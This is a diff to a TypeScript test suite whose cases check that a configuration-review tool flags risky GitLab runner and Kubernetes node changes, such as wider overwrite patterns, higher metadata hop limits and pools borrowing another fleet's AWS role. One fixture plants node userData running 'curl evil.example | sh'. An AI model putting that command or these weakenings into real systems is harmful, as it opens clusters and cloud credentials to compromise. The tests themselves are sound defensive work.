@@ -61,6 +61,34 @@ const table = (text: string): Change => [
 
 const configured = (...changes: readonly Change[]) => edited(FLEET, ...changes);
 
+/** The fleet with a runner under another name. */
+const RENAMED = withRunner(FLEET, 'amd64-spot', 'renamed').filter(
+  ({ path }) => !path.includes('/amd64-spot/'),
+);
+
+const OF_OTHERS = edited(NEIGHBOUR, ['ec2nodeclass-protected-jobs.yaml', /role: .*/, 'role: protected']);
+/** A pool more for the jobs of one. */
+const poolOf = (nodeClass: string) =>
+  edited(
+    FLEET,
+    [POOL, /( {2}name: gitlab-jobs-amd64-spot)\n/, '$1-b\n'],
+    ...(nodeClass === 'gitlab-jobs'
+      ? []
+      : [[POOL, /(nodeClassRef:[\s\S]*? name: )gitlab-jobs\n/, `$1${nodeClass}\n`] as const]),
+  )
+    .filter(({ path }) => path.endsWith(POOL))
+    .map(({ path, text }) => ({ path: path.replace('.yaml', '-b.yaml'), text }));
+const OPEN_CLASS = [
+  ...FLEET,
+  ...edited(
+    FLEET,
+    [CLASS, '  name: gitlab-jobs\n', '  name: open\n'],
+    [CLASS, 'httpPutResponseHopLimit: 1', 'httpPutResponseHopLimit: 2'],
+  )
+    .filter(({ path }) => path.endsWith(CLASS))
+    .map(({ path, text }) => ({ path: path.replace('.yaml', '-open.yaml'), text })),
+];
+
 const binding = (
   kind: string,
   role: string,
@@ -172,6 +200,13 @@ export const SECURITY_CASES: readonly ImpactCase[] = [
   ...OVERWRITES.map((name): ImpactCase => ({ rule: 'job-choices', name: `${name}_overwrite_allowed`, after: configured(key(`${name}_overwrite_allowed = ".*"`)), says: ['security', new RegExp(`get more: ${name}_overwrite_allowed is \\.\\*, before nothing`)] })),
   { rule: 'job-choices', name: 'a wider pattern', before: configured(key('namespace_overwrite_allowed = "^(a|b)$"')), after: configured(key('namespace_overwrite_allowed = "^(a|b|c)$"')), says: ['security', /is \^\(a\|b\|c\)\$, before \^\(a\|b\)\$/] },
   { rule: 'job-choices', name: 'a pattern without its anchors', before: configured(key('namespace_overwrite_allowed = "^a$"')), after: configured(key('namespace_overwrite_allowed = "a"')), says: ['security', /is a, before \^a\$/] },
+  { rule: 'job-choices', name: 'another pattern than one with flags of Go', before: configured(key('namespace_overwrite_allowed = "(?i)^gitlab-jobs-[a-z]+$"')), after: configured(key('namespace_overwrite_allowed = "^(kube-system|gitlab-runners)$"')), says: ['security', /is \^\(kube-system/] },
+  { rule: 'job-choices', name: 'another pattern than one with a named group', before: configured(key('service_account_overwrite_allowed = "^(?P<t>team)-[a-z]+$"')), after: configured(key('service_account_overwrite_allowed = "^(deploy|admin)$"')), says: ['security', /is \^\(deploy/] },
+  { rule: 'job-choices', name: 'another pattern than one that only Go reads', before: configured(key('service_account_overwrite_allowed = "(?U)^a+$"')), after: configured(key('service_account_overwrite_allowed = "^a$"')), says: ['security', /is \^a\$/] },
+  { rule: 'job-choices', name: 'a narrower pattern than one with flags of Go', before: configured(key('namespace_overwrite_allowed = "(?i)^gitlab-jobs-[a-z]+$"')), after: configured(key('namespace_overwrite_allowed = "^gitlab-jobs-a$"')) },
+  { rule: 'job-choices', name: 'images in braces, past a star', before: configured(key('allowed_images = ["*.example.com/**"]')), after: configured(key('allowed_images = ["*.example.com/**", "{a.example.com/x,docker.io/evil/y}"]')), says: ['security', /allowed_images/] },
+  { rule: 'job-choices', name: 'a runner that takes the place of another, without its script and its images', before: configured(entry('pre_build_script = "verify"'), key('allowed_images = ["a/**"]')), after: RENAMED, says: ['security', /allowed_images allows any image.*pre_build_script no longer runs/s] },
+  { rule: 'job-choices', name: 'a runner that takes the place of another, as it was', after: RENAMED },
   { rule: 'job-choices', name: 'a narrower pattern', before: configured(key('namespace_overwrite_allowed = "^(a|b)$"')), after: configured(key('namespace_overwrite_allowed = "^a$"')) },
   { rule: 'job-choices', name: 'no pattern any more', before: configured(key('namespace_overwrite_allowed = ".*"')), after: FLEET },
   { rule: 'job-choices', name: 'a token of the job', after: configured(key('bearer_token_overwrite_allowed = true')), says: ['security', /they may bring the token that makes their pods/] },
@@ -207,6 +242,9 @@ export const SECURITY_CASES: readonly ImpactCase[] = [
   { rule: 'tiers-joined', name: 'a fleet that comes beside another one', after: [...FLEET, ...NEIGHBOUR] },
   { rule: 'tiers-joined', name: 'a second manager', after: withManagers(FLEET, 'amd64-spot', 2) },
 
+  { rule: 'node-guards', name: 'a new pool for the same jobs, of the class of another fleet', before: [...FLEET, ...OF_OTHERS], after: [...FLEET, ...OF_OTHERS, ...poolOf('protected-jobs')], says: ['security', /rights of another role in AWS/] },
+  { rule: 'node-guards', name: 'a new pool for the same jobs, of a class that opens more', before: OPEN_CLASS, after: [...OPEN_CLASS, ...poolOf('open')], says: ['security', /reach the instance metadata/] },
+  { rule: 'node-guards', name: 'a new pool for the same jobs, of their class', before: OPEN_CLASS, after: [...OPEN_CLASS, ...poolOf('gitlab-jobs')] },
   { rule: 'node-guards', name: 'a hop more', after: edited(FLEET, [CLASS, 'httpPutResponseHopLimit: 1', 'httpPutResponseHopLimit: 2']), says: ['security', /^Pods reach the instance metadata service \(httpPutResponseHopLimit 2, before 1\)\.$/] },
   { rule: 'node-guards', name: 'no token', after: edited(FLEET, [CLASS, 'httpTokens: required', 'httpTokens: optional']), says: ['security', /asks for no token/] },
   { rule: 'node-guards', name: 'another script of the nodes', after: edited(FLEET, [CLASS, 'spec:\n', 'spec:\n  userData: |\n    curl evil.example | sh\n']), says: ['security', /as root is another script/] },
